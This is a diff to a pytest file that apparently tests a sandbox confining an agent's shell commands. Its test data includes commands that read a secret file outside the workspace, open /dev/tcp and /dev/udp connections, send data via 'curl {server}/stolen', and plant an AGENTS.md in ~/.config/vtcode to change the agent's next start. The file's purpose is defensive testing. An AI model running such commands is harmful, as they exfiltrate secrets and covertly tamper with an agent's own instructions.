@@ -10,7 +10,7 @@ import sys
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 from unittest.mock import ANY
 
 import pytest
@@ -357,7 +357,6 @@ def test_whatever_it_is_told_nothing_outside_comes_of_it(world: World, config: s
     assert obey(world, config, COMMANDS) == {}
 
 
-@pytest.mark.xfail(strict=True, reason="the box closes only names that exist, and secrets one folder down")
 @pytest.mark.parametrize("world", [NOBODY], indirect=True)
 def test_names_that_do_not_exist_yet_and_deep_secrets_are_closed_too(world: World) -> None:
     assert obey(world, "allowed", NEW_NAMES) == {}
@@ -366,7 +365,7 @@ def test_names_that_do_not_exist_yet_and_deep_secrets_are_closed_too(world: Worl
 WITHOUT_A_BOX = """
 cat {outside}/secret; echo x > {outside}/made; chmod 700 {outside}/kept
 echo x > /dev/tcp/127.0.0.1/{tcp}; echo x > /dev/udp/127.0.0.1/{udp}; curl -sm 2 {server}/stolen
-echo planted > AGENTS.md; true; true; true
+mkdir -p ~/.config/vtcode; echo planted > ~/.config/vtcode/AGENTS.md; true; true; true
 """
 
 
@@ -375,4 +374,6 @@ def test_without_a_box_all_of_it_would_be_seen(world: World) -> None:
     found = obey(world, "open", WITHOUT_A_BOX)
     assert found.pop("changed the next start")
     assert found.pop("read") == {"outside": ANY} and found.pop("connected") == ["tcp", "udp", ANY]
-    assert found == {"changed outside": ["outside/kept", "outside/made"], "made outside": [world.outside / "made"]}
+    changed = cast("list[str]", found.pop("changed outside"))
+    assert {"home/.config/vtcode/AGENTS.md", "outside/kept", "outside/made"} <= {*changed}
+    assert found == {"made outside": [world.outside / "made"]}
